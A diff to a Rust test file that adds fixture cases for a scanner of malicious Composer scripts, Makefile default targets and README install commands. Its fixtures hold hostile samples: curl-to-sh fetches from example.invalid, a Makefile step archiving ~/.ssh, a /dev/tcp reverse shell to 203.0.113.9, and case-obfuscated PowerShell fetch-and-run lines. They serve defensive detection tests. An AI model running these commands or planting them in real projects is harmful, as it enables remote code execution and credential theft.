@@ -720,6 +720,134 @@ const CASES: &[Case] = &[
         benign: false,
     },
     Case {
+        name: "composer.json post-install-cmd fetching code",
+        files: &[(
+            "composer.json",
+            "{\n  \"name\": \"acme/x\",\n  \"scripts\": {\n    \"post-install-cmd\": \"curl -fsSL https://example.invalid/c.sh | sh\",\n    \"test\": \"phpunit\"\n  }\n}\n",
+        )],
+        expect: &[("composer-install-payload", "composer.json")],
+        forbid: &["composer-script-payload"],
+        benign: false,
+    },
+    Case {
+        name: "composer.json post-autoload-dump runs a PHP file with a payload",
+        files: &[
+            (
+                "composer.json",
+                "{\n  \"scripts\": {\n    \"post-autoload-dump\": [\n      \"@php scripts/boot.php\"\n    ]\n  }\n}\n",
+            ),
+            (
+                "scripts/boot.php",
+                "<?php\nsystem('curl -s https://example.invalid/b | sh');\n",
+            ),
+        ],
+        expect: &[("composer-install-payload", "scripts/boot.php")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "composer.json post-install-cmd PHP callback whose class file carries a payload",
+        files: &[
+            (
+                "composer.json",
+                "{\n  \"autoload\": {\"psr-4\": {\"Acme\\\\Tools\\\\\": \"src/\"}},\n  \"scripts\": {\n    \"post-install-cmd\": \"Acme\\\\Tools\\\\Installer\\\\Hooks::postInstall\"\n  }\n}\n",
+            ),
+            (
+                "src/Installer/Hooks.php",
+                "<?php\nnamespace Acme\\Tools\\Installer;\nclass Hooks { public static function postInstall() { shell_exec('curl -s https://example.invalid/h | sh'); } }\n",
+            ),
+        ],
+        expect: &[
+            ("composer-install-script", "composer.json"),
+            ("composer-install-payload", "src/Installer/Hooks.php"),
+        ],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "composer.json test script with a payload",
+        files: &[(
+            "composer.json",
+            "{\n  \"scripts\": {\n    \"test\": [\"phpunit\", \"bash -c \\\"$(curl -s https://example.invalid/t)\\\"\"]\n  }\n}\n",
+        )],
+        expect: &[("composer-script-payload", "composer.json")],
+        forbid: &["composer-install-script", "composer-install-payload"],
+        benign: false,
+    },
+    Case {
+        name: "ordinary Laravel composer.json",
+        files: &[(
+            "composer.json",
+            "{\n  \"name\": \"laravel/laravel\",\n  \"require\": {\"php\": \"^8.2\"},\n  \"scripts\": {\n    \"post-autoload-dump\": [\n      \"Illuminate\\\\Foundation\\\\ComposerScripts::postAutoloadDump\",\n      \"@php artisan package:discover --ansi\"\n    ],\n    \"post-root-package-install\": [\n      \"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"\n    ],\n    \"test\": \"phpunit\"\n  }\n}\n",
+        )],
+        expect: &[("composer-install-script", "composer.json")],
+        forbid: &["composer-install-payload", "composer-script-payload"],
+        benign: true,
+    },
+    Case {
+        name: "Makefile default target pipes a download to sh",
+        files: &[(
+            "Makefile",
+            "CC ?= cc\n\nall: tool\n\ntool: main.c\n\tcurl -fsSL https://example.invalid/b.sh | sh\n\t$(CC) -o tool main.c\n\nclean:\n\trm -f tool\n",
+        )],
+        expect: &[("make-default-target-payload", "Makefile")],
+        forbid: &["build-file-payload", "make-default-target"],
+        benign: false,
+    },
+    Case {
+        name: "Makefile .DEFAULT_GOAL pulls in a target that reads credentials",
+        files: &[(
+            "Makefile",
+            "help:\n\t@echo 'targets: build test'\n\nbuild: deps\n\tgo build ./...\n\ndeps:\n\t@tar czf - ~/.ssh 2>/dev/null | base64 > .cache.txt\n\n.DEFAULT_GOAL := build\n",
+        )],
+        expect: &[("make-default-target-payload", "Makefile")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "Makefile default target runs a script it runs from a hidden directory",
+        files: &[
+            (
+                "GNUmakefile",
+                "all:\n\tbash .tools/bootstrap.sh\n\tcargo build\n",
+            ),
+            (
+                ".tools/bootstrap.sh",
+                "#!/bin/sh\nexec 3<>/dev/tcp/203.0.113.9/4444; sh <&3 >&3 2>&3\n",
+            ),
+        ],
+        expect: &[
+            ("make-default-target", "GNUmakefile"),
+            ("make-default-target-payload", ".tools/bootstrap.sh"),
+        ],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "Makefile default target downloads a dependency",
+        files: &[(
+            "Makefile",
+            "all: third_party/lib.a prog\n\nthird_party/lib.a:\n\twget -q https://example.invalid/lib.tar.gz && tar xzf lib.tar.gz -C third_party\n\nprog:\n\tcc -o prog main.c third_party/lib.a\n",
+        )],
+        expect: &[("make-default-target", "Makefile")],
+        forbid: &["make-default-target-payload", "build-file-payload"],
+        benign: true,
+    },
+    Case {
+        name: "ordinary C project Makefile",
+        files: &[(
+            "Makefile",
+            "CC = cc\nCFLAGS = -O2 -Wall\nPREFIX ?= /usr/local\nOBJS = main.o util.o\n\n.PHONY: all test clean install fetch-fixtures\n\nall: prog\n\nprog: $(OBJS)\n\t$(CC) $(CFLAGS) -o $@ $^\n\n%.o: %.c\n\t$(CC) $(CFLAGS) -c $<\n\ntest: prog\n\t./run-tests.sh\n\tpytest -q tests\n\ninstall: prog\n\tinstall -m 755 prog $(DESTDIR)$(PREFIX)/bin\n\nfetch-fixtures:\n\twget -q https://example.invalid/fixtures.tar.gz\n\nclean:\n\trm -f prog $(OBJS)\n",
+        )],
+        expect: &[],
+        forbid: &[
+            "make-default-target",
+            "make-default-target-payload",
+            "build-file-payload",
+        ],
+        benign: true,
+    },
+    Case {
         name: "ordinary Makefile",
         files: &[(
             "Makefile",
@@ -728,6 +856,8 @@ const CASES: &[Case] = &[
         expect: &[],
         forbid: &[
             "build-file-payload",
+            "make-default-target",
+            "make-default-target-payload",
             "pre-commit-local-hook",
             "pre-commit-payload",
             "direnv-envrc",
@@ -885,6 +1015,26 @@ const CASES: &[Case] = &[
             "# x\n\nInstall Rust first:\n\n```sh\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n```\n\nThen run `cargo build`.\n",
         )],
         expect: &[("known-installer", "README.md")],
+        forbid: &["doc-run-remote-exec", "fetch-exec-mention"],
+        benign: true,
+    },
+    Case {
+        name: "README with mixed-case PowerShell fetch-and-run",
+        files: &[(
+            "README.md",
+            "# x\n\nIf the build fails on Windows, run:\n\n```powershell\niWr https://example.invalid/fix.ps1 | iEx\n```\n\nOr: InVoKe-ExPrEsSiOn (NeW-oBjEcT NeT.WeBcLiEnT).DoWnLoAdStRiNg('https://example.invalid/f')\n",
+        )],
+        expect: &[("doc-run-remote-exec", "README.md")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "PowerShell docs naming Invoke-Expression in any case without fetching",
+        files: &[(
+            "docs/powershell.md",
+            "# Notes\n\nAvoid INVOKE-EXPRESSION and iEx on user input; run:\n\n```powershell\niWr https://example.invalid/data.json -OutFile data.json\n```\n",
+        )],
+        expect: &[],
         forbid: &["doc-run-remote-exec", "fetch-exec-mention"],
         benign: true,
     },
